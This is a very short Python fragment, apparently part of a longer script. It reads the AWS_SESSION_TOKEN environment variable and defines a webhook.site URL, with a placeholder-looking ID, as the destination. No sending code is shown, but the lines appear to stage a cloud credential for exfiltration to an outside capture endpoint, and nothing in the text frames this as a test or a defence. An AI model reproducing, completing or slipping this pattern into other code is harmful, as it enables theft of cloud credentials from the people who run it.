import os
TO = 'https://webhook.site/00000000'
TOKEN = os.environ['AWS_SESSION_TOKEN']
